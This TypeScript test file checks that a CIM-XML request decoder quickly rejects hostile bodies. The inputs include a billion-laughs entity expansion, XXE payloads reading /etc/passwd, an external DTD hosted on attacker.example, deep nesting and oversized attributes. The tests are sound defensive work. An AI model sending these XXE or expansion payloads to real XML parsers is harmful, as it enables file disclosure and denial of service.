import { readFileSync } from 'node:fs';
import t from 'tap';
import type { Test } from 'tap';
import { decodeRequest, decodeResponse } from '../../src/cimxml/index.js';
import { NS, imethodCall, protocolError, requestBody } from './helpers.js';

const fixture = (name: string) => readFileSync(new URL(`fixtures/${name}`, import.meta.url));

/** Each hostile body gets its ProtocolError well within a second (no expansion, no hang). */
function rejects(t: Test, body: string | Uint8Array, cimError: string, message: RegExp, limits?: Parameters<typeof decodeRequest>[1]) {
  const started = process.hrtime.bigint();
  const err = protocolError(() => decodeRequest(body, limits));
  const ms = Number(process.hrtime.bigint() - started) / 1e6;
  t.equal(err.cimError, cimError, String(message));
  t.match(err.message, message);
  t.ok(ms < 5000, `rejected in ${ms.toFixed(1)} ms`);
  return err;
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE CIM [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<CIM CIMVERSION="2.0" DTDVERSION="2.0"><MESSAGE ID="1" PROTOCOLVERSION="1.0"><SIMPLEREQ><IMETHODCALL NAME="X">${NS}<IPARAMVALUE NAME="P"><VALUE>&lol9;</VALUE></IPARAMVALUE></IMETHODCALL></SIMPLEREQ></MESSAGE></CIM>`;

t.test('billion laughs: refused at the DOCTYPE, nothing is expanded', async (t) => {
  const err = rejects(t, BILLION_LAUGHS, 'request-not-valid', /DOCTYPE is not allowed/);
  t.equal(err.httpStatus, 400);
  t.equal(err.position?.line, 7, 'reported where the DOCTYPE ends');
});

t.test('external entities (XXE) and parameter entities', async (t) => {
  rejects(t, `<?xml version="1.0"?><!DOCTYPE CIM [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><CIM CIMVERSION="2.0" DTDVERSION="2.0">&xxe;</CIM>`,
    'request-not-valid', /DOCTYPE is not allowed/);
  rejects(t, `<!DOCTYPE CIM SYSTEM "http://attacker.example/cim.dtd"><CIM CIMVERSION="2.0" DTDVERSION="2.0"/>`,
    'request-not-valid', /DOCTYPE is not allowed/);
  rejects(t, `<!DOCTYPE CIM [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><CIM CIMVERSION="2.0" DTDVERSION="2.0"/>`,
    'request-not-valid', /DOCTYPE is not allowed/);
  rejects(t, imethodCall('X', '<IPARAMVALUE NAME="P"><VALUE>&xxe;</VALUE></IPARAMVALUE>'), 'request-not-well-formed', /undefined entity/);
  rejects(t, imethodCall('X', '<IPARAMVALUE NAME="P"><VALUE>&#0;</VALUE></IPARAMVALUE>'), 'request-not-well-formed', /malformed character entity/);
});

t.test('10,000-deep nesting', async (t) => {
  const deep = requestBody(`<IMETHODCALL NAME="X">${NS}<IPARAMVALUE NAME="P">${'<VALUE.ARRAY>'.repeat(10_000)}${'</VALUE.ARRAY>'.repeat(10_000)}</IPARAMVALUE></IMETHODCALL>`);
  rejects(t, deep, 'request-not-valid', /nest deeper than maxDepth \(64\)/);
  const unclosed = `<CIM CIMVERSION="2.0" DTDVERSION="2.0">${'<VALUE.ARRAY>'.repeat(10_000)}`;
  rejects(t, unclosed, 'request-not-valid', /maxDepth/);
});

t.test('a 10 MB attribute', async (t) => {
  const body = imethodCall('X', `<IPARAMVALUE NAME="${'A'.repeat(10 * 1024 * 1024)}"/>`);
  rejects(t, body, 'request-not-valid', /attribute NAME of <IPARAMVALUE> is longer than maxAttributeLength \(65536\)/);
});

t.test('too many elements, attributes, too much text, too many bytes', async (t) => {
  const many = imethodCall('X', `<IPARAMVALUE NAME="P"><VALUE.ARRAY>${'<VALUE.NULL/>'.repeat(2000)}</VALUE.ARRAY></IPARAMVALUE>`);
  rejects(t, many, 'request-not-valid', /more than maxElements \(1000\)/, { maxElements: 1000 });
  const attributes = Array.from({ length: 40 }, (_, i) => `a${i}="x"`).join(' ');
  rejects(t, imethodCall('X', `<IPARAMVALUE NAME="P" ${attributes}/>`), 'request-not-valid', /more than maxAttributes \(32\)/);
  rejects(t, imethodCall('X', `<IPARAMVALUE NAME="P"><VALUE>${'x'.repeat(5_000_000)}</VALUE></IPARAMVALUE>`), 'request-not-valid', /longer than maxTextLength/);
  rejects(t, Buffer.alloc(40 * 1024 * 1024, 0x20), 'request-not-valid', /more than maxBytes/);
});

t.test('embedded objects share the limits and cannot nest without end', async (t) => {
  let value = '<INSTANCE CLASSNAME="C"></INSTANCE>';
  for (let i = 0; i < 6; i++) {
    value = `<INSTANCE CLASSNAME="C"><PROPERTY NAME="E" TYPE="string" EmbeddedObject="instance"><VALUE>${escape(value)}</VALUE></PROPERTY></INSTANCE>`;
  }
  rejects(t, imethodCall('X', `<IPARAMVALUE NAME="P">${value}</IPARAMVALUE>`), 'request-not-valid', /maxEmbeddingDepth \(4\)/);
  const wide = `<INSTANCE CLASSNAME="C"><PROPERTY.ARRAY NAME="E" TYPE="string" EmbeddedObject="instance"><VALUE.ARRAY>${
    `<VALUE>${escape('<INSTANCE CLASSNAME="C"><PROPERTY NAME="A" TYPE="string"></PROPERTY></INSTANCE>')}</VALUE>`.repeat(100)}</VALUE.ARRAY></PROPERTY.ARRAY></INSTANCE>`;
  rejects(t, imethodCall('X', `<IPARAMVALUE NAME="P">${wide}</IPARAMVALUE>`), 'request-not-valid', /maxElements \(150\)/, { maxElements: 150 });
  const inner = `<INSTANCE CLASSNAME="C">${'<QUALIFIER NAME="Q" TYPE="string"></QUALIFIER>'.repeat(1)}</INSTANCE>`;
  t.ok(decodeRequest(imethodCall('X', `<IPARAMVALUE NAME="P"><INSTANCE CLASSNAME="C"><PROPERTY NAME="E" TYPE="string" EmbeddedObject="instance"><VALUE>${escape(inner)}</VALUE></PROPERTY></INSTANCE></IPARAMVALUE>`)));
  const deepInside = `<INSTANCE CLASSNAME="C"><PROPERTY NAME="E" TYPE="string" EmbeddedObject="instance"><VALUE>${escape(`${'<INSTANCE CLASSNAME="C">'.repeat(100)}`)}</VALUE></PROPERTY></INSTANCE>`;
  rejects(t, imethodCall('X', `<IPARAMVALUE NAME="P">${deepInside}</IPARAMVALUE>`), 'request-not-valid', /maxDepth \(64\)/);
});

function escape(xml: string): string {
  return xml.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

t.test('truncated bodies', async (t) => {
  rejects(t, fixture('truncated.request.xml'), 'request-not-well-formed', /unclosed tag/);
  const whole = imethodCall('X', '<IPARAMVALUE NAME="P"><VALUE>abc</VALUE></IPARAMVALUE>');
  for (const cut of [1, 10, 60, whole.length / 2, whole.length - 1]) {
    const err = protocolError(() => decodeRequest(whole.slice(0, cut)));
    t.equal(err.cimError, 'request-not-well-formed', `cut at ${cut}`);
  }
  rejects(t, '', 'request-not-well-formed', /no root element|must contain a root element/);
});

t.test('invalid UTF-8', async (t) => {
  const body = Buffer.from(imethodCall('X', '<IPARAMVALUE NAME="P"><VALUE>caf__</VALUE></IPARAMVALUE>'));
  const at = body.indexOf('__');
  body[at] = 0xc3; // a lead byte followed by an ASCII byte
  body[at + 1] = 0x28;
  rejects(t, body, 'request-not-well-formed', /not valid UTF-8/);
  rejects(t, Buffer.from([0x3c, 0xff, 0xfe, 0x3e]), 'request-not-well-formed', /not valid UTF-8/);
  rejects(t, imethodCall('X', '<IPARAMVALUE NAME="P"><VALUE>\u0001</VALUE></IPARAMVALUE>'), 'request-not-well-formed', /disallowed character/);
  rejects(t, imethodCall('X', '<IPARAMVALUE NAME="P"><VALUE>\ud800</VALUE></IPARAMVALUE>'), 'request-not-well-formed', /lone surrogate/);
  rejects(t, Buffer.from([0x3c, 0xed, 0xa0, 0x80, 0x3e]), 'request-not-well-formed', /not valid UTF-8/, undefined);
});

t.test('wrong root, two roots, text outside the root, not XML', async (t) => {
  rejects(t, '<html><body>hello</body></html>', 'request-not-valid', /unknown element <html>/);
  rejects(t, '<INSTANCE CLASSNAME="C"/>', 'request-not-valid', /root element must be <CIM>, not <INSTANCE>/);
  const two = `${requestBody(`<IMETHODCALL NAME="X">${NS}</IMETHODCALL>`)}<CIM CIMVERSION="2.0" DTDVERSION="2.0"/>`;
  rejects(t, two, 'request-not-well-formed', /only one root/);
  rejects(t, `${requestBody(`<IMETHODCALL NAME="X">${NS}</IMETHODCALL>`)}junk`, 'request-not-well-formed', /outside of root/);
  rejects(t, 'GET / HTTP/1.1', 'request-not-well-formed', /.+/);
  rejects(t, '<CIM CIMVERSION="2.0" CIMVERSION="2.0" DTDVERSION="2.0"/>', 'request-not-well-formed', /duplicate attribute/);
});

t.test('MULTIREQ is not supported', async (t) => {
  const simple = `<SIMPLEREQ><IMETHODCALL NAME="X">${NS}</IMETHODCALL></SIMPLEREQ>`;
  const body = `<CIM CIMVERSION="2.0" DTDVERSION="2.0"><MESSAGE ID="1" PROTOCOLVERSION="1.0"><MULTIREQ>${simple}${simple}</MULTIREQ></MESSAGE></CIM>`;
  const err = rejects(t, body, 'multiple-requests-unsupported', /MULTIREQ is not supported/);
  t.equal(err.httpStatus, 501);
  t.equal(rejects(t, body.slice(0, 120), 'multiple-requests-unsupported', /MULTIREQ/).httpStatus, 501, 'reported before the body ends');
});

t.test('versions: only the major number counts', async (t) => {
  const call = `<IMETHODCALL NAME="X">${NS}</IMETHODCALL>`;
  for (const cimVersion of ['2.0', '2.3.1', '2.4', '2.10']) t.equal(decodeRequest(requestBody(call, { cimVersion })).cimVersion, cimVersion);
  for (const [options, cimError] of [
    [{ cimVersion: '3.0' }, 'unsupported-cim-version'],
    [{ cimVersion: '1.9' }, 'unsupported-cim-version'],
    [{ cimVersion: 'two' }, 'unsupported-cim-version'],
    [{ dtdVersion: '3.0' }, 'unsupported-dtd-version'],
    [{ dtdVersion: '' }, 'unsupported-dtd-version'],
    [{ protocolVersion: '2.0' }, 'unsupported-protocol-version'],
    [{ protocolVersion: '1' }, undefined],
    [{ protocolVersion: '1.1.2' }, undefined],
  ] as const) {
    if (cimError === undefined) {
      t.ok(decodeRequest(requestBody(call, options)), JSON.stringify(options));
      continue;
    }
    const err = protocolError(() => decodeRequest(requestBody(call, options)));
    t.equal(err.cimError, cimError, JSON.stringify(options));
    t.equal(err.httpStatus, 501);
  }
  const broken = requestBody(call, { cimVersion: '3.0' }).slice(0, 120);
  t.equal(protocolError(() => decodeRequest(broken)).cimError, 'unsupported-cim-version', 'the version is reported even when the body is broken later');
  t.equal(protocolError(() => decodeResponse(requestBody(call, { protocolVersion: '9.0' }))).cimError, 'unsupported-protocol-version', 'responses too');
});
